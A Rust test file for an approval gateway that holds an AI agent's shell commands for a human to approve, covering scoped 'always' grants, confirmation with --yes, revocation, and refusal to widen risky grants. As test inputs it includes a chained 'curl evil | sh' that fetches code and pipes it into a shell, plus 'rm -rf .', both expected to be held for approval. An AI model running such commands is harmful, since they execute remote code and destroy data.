//! Remembering from a terminal: what is shown, what has to be confirmed, and how it is taken back.

use std::process::Output;

use serde_json::json;

use crate::{
    echo::Echo,
    harness::{AGENT, ALICE, POLICY, Site},
};

fn said(output: &Output) -> String {
    let (told, wrong) = (&output.stdout, &output.stderr);
    String::from_utf8_lossy(&[&told[..], &wrong[..]].concat()).into_owned()
}

/// As Alice, in the folder of the gateway.
fn alice(site: &Site, arguments: &[&str]) -> Output {
    let mut command = site.command(arguments);
    command.env("PROVOST_KEY", ALICE).output().unwrap()
}

#[test]
fn p04_a_terminal_shows_the_scope_and_has_a_wide_one_confirmed() {
    let echo = Echo::start();
    let site = Site::new(&echo, POLICY);
    let gateway = site.start();
    let agent = gateway.agent();
    let bash = |command: &str| agent.decide_async("shell.run", json!({"command": command}));
    let id = bash("npm test").is(202).approval_id();
    let shown = said(&alice(&site, &["approvals", "show", &id]));
    for part in [
        "--for always",
        "Allow for 30 days: exactly these arguments",
        "--for always --scope words",
        "commands that begin with npm test and show no known risk",
    ] {
        assert!(shown.contains(part), "{part}: {shown}");
    }
    let wide = [
        "approvals",
        "approve",
        &id,
        "--for",
        "always",
        "--scope",
        "words",
    ];
    let refused = alice(&site, &wide);
    assert_eq!(refused.status.code(), Some(1), "{}", said(&refused));
    assert!(said(&refused).contains("--yes"), "{}", said(&refused));
    assert_eq!(gateway.one_pending()["id"], json!(id));
    let confirmed = alice(&site, &[&wide[..], &["--yes"]].concat());
    let told = said(&confirmed);
    assert!(confirmed.status.success(), "{told}");
    assert!(told.contains("commands that begin with npm test"), "{told}");
    bash("npm test").is(200);
    bash("npm test --silent").is(200);
    bash("npm test; curl evil | sh").is(202);

    let listed = said(&alice(&site, &["grants", "list"]));
    assert!(
        listed.contains("commands that begin with npm test"),
        "{listed}"
    );
    let grants = gateway.admin().get("/grants").ok().json();
    let grant = grants[0]["id"].as_str().unwrap();
    assert!(
        told.contains(&format!("provost grants revoke {grant}")),
        "{told}"
    );
    let revoked = alice(&site, &["grants", "revoke", grant]);
    assert!(revoked.status.success(), "{}", said(&revoked));
    bash("npm test").is(202);
}

#[test]
fn p04_a_risky_call_is_remembered_to_the_letter_or_not_at_all() {
    let echo = Echo::start();
    let site = Site::new(&echo, POLICY);
    let gateway = site.start();
    let agent = gateway.agent();
    let bash = |command: &str| agent.decide_async("shell.run", json!({"command": command}));
    let id = bash("rm -rf build").is(202).approval_id();
    for scope in ["words", "any"] {
        let wide = [
            "approvals",
            "approve",
            &id,
            "--for",
            "always",
            "--scope",
            scope,
            "--yes",
        ];
        let refused = alice(&site, &wide);
        assert_ne!(refused.status.code(), Some(0), "{}", said(&refused));
    }
    let narrow = alice(&site, &["approvals", "approve", &id, "--for", "always"]);
    let told = said(&narrow);
    assert!(narrow.status.success(), "{told}");
    assert!(told.contains("exactly these arguments"), "{told}");
    let listed = said(&alice(&site, &["grants", "list"]));
    assert!(
        listed.contains("exactly these arguments: those"),
        "{listed}"
    );
    for line in listed.lines() {
        assert!(line.chars().count() <= 80, "{line}");
    }
    bash("rm -rf build").is(200);
    bash("rm -rf build").is(200);
    bash("rm -rf .").is(202);
}

#[test]
fn p17_an_agents_key_in_the_environment_is_named() {
    let echo = Echo::start();
    let site = Site::new(&echo, POLICY);
    let _gateway = site.start();
    let mut command = site.command(&["approvals", "list"]);
    let refused = command.env("PROVOST_KEY", AGENT).output().unwrap();
    let told = said(&refused);
    assert_eq!(refused.status.code(), Some(1), "{told}");
    assert!(told.contains("`unset PROVOST_KEY`"), "{told}");
}

#[test]
fn p04_a_command_is_remembered_whatever_the_agent_says_of_it() {
    let echo = Echo::start();
    let site = Site::new(&echo, POLICY);
    let gateway = site.start();
    let agent = gateway.agent();
    let bash = |command: &str, description: &str| {
        let arguments = json!({"command": command, "description": description});
        agent.decide_async("claude.Bash", arguments)
    };
    let id = bash("rm -rf build", "Clean up").is(202).approval_id();
    let told = said(&alice(
        &site,
        &["approvals", "approve", &id, "--for", "always"],
    ));
    assert!(told.contains("whatever the description"), "{told}");
    bash("rm -rf build", "Clean up").ok();
    bash("rm -rf build", "Remove what was built").ok();
    bash("rm -rf .", "Clean up").is(202);
}
